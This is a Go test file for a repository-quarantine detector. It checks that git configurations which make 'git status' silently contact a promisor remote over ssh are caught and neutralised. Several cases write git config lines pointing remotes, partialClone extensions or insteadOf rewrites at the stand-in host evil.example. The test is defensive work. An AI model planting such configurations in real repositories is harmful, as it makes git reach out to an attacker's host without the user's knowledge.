package quarantine

import (
	"os"
	"testing"
)

// TestPromisor holds that git status does not connect to where a command wants
// it to: an object that is missing is fetched from a promisor without being
// asked, over ssh(1) or by git in another repository.
func TestPromisor(t *testing.T) {
	const missing = `git init -q -b main n; cd n; echo a > a; git add a; git commit -q -m x; git config core.repositoryformatversion 1
		tree=$(git rev-parse HEAD^{tree}); rm -f .git/objects/$(echo $tree | cut -c1-2)/$(echo $tree | cut -c3-);`
	const status = `mkdir -p "$OUT/bin"; printf '#!/bin/sh\n: > %s/fired\n' "$OUT" > "$OUT/bin/ssh"; chmod +x "$OUT/bin/ssh"; cd n; PATH="$OUT/bin:$PATH" git status > /dev/null 2>&1 || true`
	for name, config := range map[string]string{
		"a promisor":          `git config remote.o.url ssh://evil.example/x; git config remote.o.promisor true`,
		"the extension":       `git config remote.o.url evil.example:x; git config extensions.partialClone o`,
		"no remote of a name": `git config extensions.partialClone evil.example:x`,
		"a rewritten address": `git config remote.o.url https://example.org/x; git config url.ssh://evil.example/.insteadOf https://example.org/; git config remote.o.promisor true`,
		"rewritten elsewhere": `git config remote.o.url https://example.org/x; git config remote.o.promisor true
			git config extensions.worktreeConfig true; git config --worktree url.ssh://evil.example/.insteadOf https://example.org/`,
		"a second address": `git config remote.o.url ssh://evil.example/x; git config --add remote.o.url https://example.org/x; git config remote.o.promisor true`,
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorkspace(t)
			w.sh(missing + config)
			w.sh(status)
			if os.Remove(w.base+"/out/fired") != nil {
				t.Fatal("the attack does not bite")
			}
			w.sh("rm -rf n")
			found := w.after(missing + config)
			if len(found) == 0 {
				t.Error("nothing was found")
			}
			w.sh(status)
			if _, err := os.Stat(w.base + "/out/fired"); err == nil {
				t.Error("git status ran ssh")
			}
		})
	}
	t.Run("as it was", func(t *testing.T) {
		w := newWorkspace(t)
		w.sh(`git init -q n; cd n; git config remote.o.url ssh://git.example.org/x; git config remote.o.promisor true`)
		w.finds(w.after(`cd n; git config user.name x`))
		w.finds(w.after(`cd n; git config remote.o.url ssh://evil.example/x`), "n/.git/config")
	})
	t.Run("over HTTP", func(t *testing.T) {
		w := newWorkspace(t)
		w.finds(w.after(`git init -q n; cd n; git config core.repositoryformatversion 1; git config extensions.partialClone o; git config remote.o.url https://example.org/x; git config remote.o.promisor true; git config remote.o.partialclonefilter blob:none`))
	})
}
